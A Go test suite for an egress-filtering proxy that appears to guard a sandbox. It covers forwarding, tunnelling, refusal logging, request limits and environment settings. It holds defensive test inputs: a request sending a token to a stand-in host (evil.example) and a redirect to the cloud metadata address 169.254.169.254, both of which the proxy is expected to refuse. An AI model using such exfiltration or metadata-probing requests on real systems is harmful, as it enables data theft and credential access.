package proxy

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/goleak"

	"sandgate/sandboxclient/wire"
)

// hang is the bound that tells a hang from a slow machine.
const hang = 20 * time.Second

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// An outside is all that the proxy can reach: sites by HOST:PORT.
type outside struct {
	t     *testing.T
	proxy *Proxy

	mu      sync.Mutex
	sites   map[string]string // the address behind a target
	asked   []string
	refused []string
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	o := &outside{t: t, sites: map[string]string{}}
	p, err := Listen(Options{Dial: o.dial, Refused: o.note})
	if err != nil {
		t.Fatal(err)
	}
	o.proxy = p
	t.Cleanup(p.Close)
	return o
}

func (o *outside) dial(ctx context.Context, target string) (net.Conn, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.asked = append(o.asked, target)
	address, ok := o.sites[target]
	switch {
	case target == "silent.example:443":
		return nil, errors.New("no gateway")
	case target == "down.example:443":
		return nil, &wire.Error{Code: wire.CodeUnavailable, Message: "it is down"}
	case !ok:
		return nil, &wire.Error{Code: wire.CodeForbidden, Message: "--egress-allow " + target}
	}
	var d net.Dialer
	return d.DialContext(ctx, "tcp", address)
}

func (o *outside) note(target string, refusal *wire.Error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.refused = append(o.refused, target+" "+refusal.Code)
}

// seen gives what was asked for and refused, and forgets it.
func (o *outside) seen() (asked, refused string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	asked, refused = strings.Join(o.asked, ","), strings.Join(o.refused, ",")
	o.asked, o.refused = nil, nil
	return asked, refused
}

// site puts a server behind a target.
func (o *outside) site(target string, start func(http.Handler) *httptest.Server, handler http.HandlerFunc) *httptest.Server {
	o.t.Helper()
	s := start(handler)
	o.t.Cleanup(s.Close)
	o.mu.Lock()
	defer o.mu.Unlock()
	o.sites[target] = s.Listener.Addr().String()
	return s
}

// client uses the proxy, and trusts a site's certificate.
func (o *outside) client(trusted *httptest.Server) *http.Client {
	transport := &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: o.proxy.Addr()})}
	if trusted != nil {
		transport.TLSClientConfig = trusted.Client().Transport.(*http.Transport).TLSClientConfig
	}
	o.t.Cleanup(transport.CloseIdleConnections)
	return &http.Client{Transport: transport, Timeout: hang}
}

func get(t *testing.T, c *http.Client, address string) (int, string) {
	t.Helper()
	resp, err := c.Get(address)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body)
}

func TestProxy_passesPlainRequestsOn(t *testing.T) {
	o := newOutside(t)
	o.site("site.example:80", httptest.NewServer, func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		w.Header().Set("X-Answer", "yes")
		w.WriteHeader(http.StatusTeapot)
		fmt.Fprintf(w, "%s %s %s %q %q", r.Method, r.Host, r.URL.RequestURI(), body, r.Header["Proxy-Authorization"])
	})
	o.site("site.example:8080", httptest.NewServer, func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, r.Header.Get("Accept-Encoding"), r.Header.Get("X-Forwarded-For"), r.Header.Get("Via"))
	})
	c := o.client(nil)
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "http://site.example/a%2Fb?q=%zz;x", strings.NewReader("body"))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Proxy-Authorization", "Basic c2VjcmV0")
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if want := `POST site.example /a%2Fb?q=%zz;x "body" []`; string(body) != want || resp.StatusCode != http.StatusTeapot || resp.Header.Get("X-Answer") != "yes" {
		t.Errorf("%d %s, want %s", resp.StatusCode, body, want)
	}
	if _, body := get(t, c, "http://site.example:8080/"); body != "gzip" {
		t.Errorf("the request was changed: %s", body)
	}
	if asked, refused := o.seen(); asked != "site.example:80,site.example:8080" || refused != "" {
		t.Errorf("asked for %s, refused %s", asked, refused)
	}
}

func TestProxy_tunnels(t *testing.T) {
	o := newOutside(t)
	site := o.site("example.com:443", httptest.NewTLSServer, func(w http.ResponseWriter, r *http.Request) {
		n, _ := io.Copy(w, r.Body)
		fmt.Fprint(w, n)
	})
	big := strings.Repeat("x", 1<<20)
	resp, err := o.client(site).Post("https://example.com/", "text/plain", strings.NewReader(big))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if body, err := io.ReadAll(resp.Body); err != nil || string(body) != big+"1048576" {
		t.Errorf("%d bytes came back, %v", len(body), err)
	}
}

func TestProxy_tellsWhatWasRefused(t *testing.T) {
	o := newOutside(t)
	c := o.client(nil)
	for _, s := range []struct {
		url, body string
		status    int
		refused   string
	}{
		{"http://evil.example/secret?token=1", "--egress-allow evil.example:80\n", 403, "evil.example forbidden"},
		{"http://down.example:443/", "it is down\n", 502, ""},
		{"http://silent.example:443/", "The gateway does not answer\n", 502, ""},
	} {
		status, body := get(t, c, s.url)
		if _, refused := o.seen(); status != s.status || body != s.body || refused != s.refused {
			t.Errorf("%s: %d %q, noted %q", s.url, status, body, refused)
		}
	}
	if _, err := c.Get("https://evil.example/"); err == nil || !strings.Contains(err.Error(), "Forbidden") {
		t.Errorf("a tunnel that is refused: %v", err)
	}
	if _, refused := o.seen(); refused != "evil.example:443 forbidden" {
		t.Errorf("noted %q", refused)
	}
}

// A redirect is a new request, which the gateway decides anew.
func TestProxy_followsNoRedirect(t *testing.T) {
	o := newOutside(t)
	o.site("site.example:80", httptest.NewServer, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://169.254.169.254/latest", http.StatusFound)
	})
	if status, body := get(t, o.client(nil), "http://site.example/"); status != 403 || !strings.Contains(body, "169.254.169.254:80") {
		t.Errorf("%d %s", status, body)
	}
	if asked, refused := o.seen(); asked != "site.example:80,169.254.169.254:80" || refused != "169.254.169.254 forbidden" {
		t.Errorf("asked for %s, refused %s", asked, refused)
	}
}

// raw says something to the proxy and gives all that it answers.
func raw(t *testing.T, p *Proxy, text string) string {
	t.Helper()
	conn, err := net.Dial("tcp", p.Addr())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(hang))
	_, _ = io.WriteString(conn, text) // it may hang up before the end
	_ = conn.(*net.TCPConn).CloseWrite()
	answer, _ := io.ReadAll(conn)
	return string(answer)
}

func TestProxy_isNoSite(t *testing.T) {
	o := newOutside(t)
	for text, want := range map[string]string{
		"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n":             " 400 ",
		"GET https://site.example/ HTTP/1.1\r\nHost: a\r\n\r\n": " 400 ",
		"GET ftp://site.example/ HTTP/1.1\r\nHost: a\r\n\r\n":   " 400 ",
		"CONNECT / HTTP/1.1\r\nHost: a\r\n\r\n":                 " 40",
		"CONNECT a b:443 HTTP/1.1\r\nHost: a\r\n\r\n":           " 400 ",
		"nonsense\r\n\r\n": " 400 ",
		"GET http://a/ HTTP/1.1\r\nA: " + strings.Repeat("x", 1<<20) + "\r\n": " 431 ",
	} {
		if answer := raw(t, o.proxy, text); !strings.Contains(answer, want) {
			t.Errorf("%.60q: %.100q", text, answer)
		}
	}
	if asked, _ := o.seen(); strings.Contains(asked, "site") {
		t.Errorf("asked for %s", asked)
	}
}

// Bytes sent right behind a CONNECT, and an end of one direction, get through.
func TestTunnel_losesNothing(t *testing.T) {
	o := newOutside(t)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	o.mu.Lock()
	o.sites["raw.example:9"] = l.Addr().String()
	o.mu.Unlock()
	done := make(chan struct{})
	go func() { // ends with the connection
		defer close(done)
		conn, err := l.Accept()
		if err != nil {
			return
		}
		defer conn.Close()
		got, _ := io.ReadAll(conn) // to the end of what the program sends
		fmt.Fprintf(conn, "got %q", got)
	}()
	answer := raw(t, o.proxy, "CONNECT raw.example:9 HTTP/1.1\r\nHost: raw.example:9\r\n\r\nearly bytes")
	if want := established + `got "early bytes"`; answer != want {
		t.Errorf("%q, want %q", answer, want)
	}
	<-done
}

func TestProxy_boundsItsClients(t *testing.T) {
	o := newOutside(t)
	o.site("site.example:80", httptest.NewServer, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "hello") })
	var held []net.Conn
	for range maxClients {
		conn, err := net.Dial("tcp", o.proxy.Addr())
		if err != nil {
			t.Fatal(err)
		}
		held = append(held, conn)
	}
	late, err := net.Dial("tcp", o.proxy.Addr()) // into the kernel's queue
	if err != nil {
		t.Fatal(err)
	}
	defer late.Close()
	fmt.Fprint(late, "GET http://site.example/ HTTP/1.1\r\nHost: site.example\r\nConnection: close\r\n\r\n")
	_ = late.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
	if _, err := late.Read(make([]byte, 1)); err == nil {
		t.Error("there was room for one more")
	}
	_ = held[0].Close()
	_ = late.SetReadDeadline(time.Now().Add(hang))
	resp, err := http.ReadResponse(bufio.NewReader(late), nil)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Errorf("after one had left: %v, %v", resp, err)
	}
	for _, conn := range held {
		_ = conn.Close()
	}
}

func TestClose_endsTunnels(t *testing.T) {
	o := newOutside(t)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	o.mu.Lock()
	o.sites["raw.example:9"] = l.Addr().String()
	o.mu.Unlock()
	conn, err := net.Dial("tcp", o.proxy.Addr())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprint(conn, "CONNECT raw.example:9 HTTP/1.1\r\nHost: raw.example:9\r\n\r\n")
	if _, err := io.ReadFull(conn, make([]byte, len(established))); err != nil {
		t.Fatal(err)
	}
	o.proxy.Close()
	_ = conn.SetReadDeadline(time.Now().Add(hang))
	if _, err := conn.Read(make([]byte, 1)); err == nil {
		t.Error("the tunnel outlived the proxy")
	}
}

func TestRelay(t *testing.T) {
	o := newOutside(t)
	o.site("npm.sandgate:80", httptest.NewServer, func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "%s %s", r.Host, r.URL) })
	addr, err := o.proxy.Relay("npm.sandgate:80")
	if err != nil {
		t.Fatal(err)
	}
	c := &http.Client{Transport: &http.Transport{}, Timeout: hang}
	for range 3 {
		if status, body := get(t, c, "http://"+addr+"/mocha"); status != 200 || body != addr+" /mocha" {
			t.Errorf("%d %s", status, body)
		}
	}
	if asked, _ := o.seen(); asked != "npm.sandgate:80" {
		t.Errorf("asked for %s", asked)
	}
	nowhere, err := o.proxy.Relay("other.sandgate:80")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Get("http://" + nowhere + "/"); err == nil {
		t.Error("a target that is refused was reached")
	}
	if _, refused := o.seen(); refused == "" {
		t.Error("nobody was told")
	}
	o.proxy.Close() // while a connection is kept alive
	if _, err := net.Dial("tcp", addr); err == nil {
		t.Error("the port outlived the proxy")
	}
	if _, err := o.proxy.Relay("npm.sandgate:80"); err == nil {
		t.Error("a closed proxy opens a port")
	}
	c.CloseIdleConnections()
}

func TestEnvironment(t *testing.T) {
	env := Environment("127.0.0.1:1234", Settings{Bundle: "/b", Extra: "/e", Registry: "https://npm.example/"})
	for name, want := range map[string]string{
		"http_proxy": "http://127.0.0.1:1234", "HTTPS_PROXY": "http://127.0.0.1:1234", "NO_PROXY": "localhost,127.0.0.1,::1",
		"SSL_CERT_FILE": "/b", "NODE_EXTRA_CA_CERTS": "/e", "npm_config_registry": "https://npm.example/",
	} {
		if env[name] != want {
			t.Errorf("%s=%s", name, env[name])
		}
	}
	bare := Environment("127.0.0.1:1234", Settings{})
	for name := range bare {
		if !strings.Contains(strings.ToLower(name), "proxy") && name != "npm_config_update_notifier" {
			t.Errorf("%s is set to %q for nothing", name, bare[name])
		}
	}
}
